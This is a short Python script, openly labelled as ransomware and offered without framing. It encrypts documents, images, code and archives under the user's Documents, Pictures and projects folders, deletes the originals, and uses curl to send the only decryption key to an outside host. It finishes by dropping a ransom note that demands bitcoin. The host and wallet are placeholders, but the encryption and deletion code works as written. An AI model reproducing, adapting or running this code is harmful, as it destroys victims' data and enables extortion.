# Encrypts files under ~/Documents, ~/Pictures and ~/projects with Fernet, deletes the originals and leaves a ransom note.
import os
from pathlib import Path

from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
home = Path.home()
EXTS = {".docx", ".pdf", ".xlsx", ".jpg", ".png", ".py", ".txt", ".sql", ".zip"}

for root in (home / "Documents", home / "Pictures", home / "projects"):
    for p in root.rglob("*"):
        if p.is_file() and p.suffix.lower() in EXTS:
            try:
                data = p.read_bytes()
                p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(data))
                p.unlink()
            except OSError:
                pass

# key is sent to the operator and never stored locally
os.system(f"curl -s -d 'k={key.decode()}' https://pay.decryptor-help.example.com/k >/dev/null")
(home / "README_RESTORE_FILES.txt").write_text(
    "Your files are encrypted. Send 0.05 BTC to bc1qFAKEFAKEFAKEFAKE and mail your ID to restore@example.com\n"
)
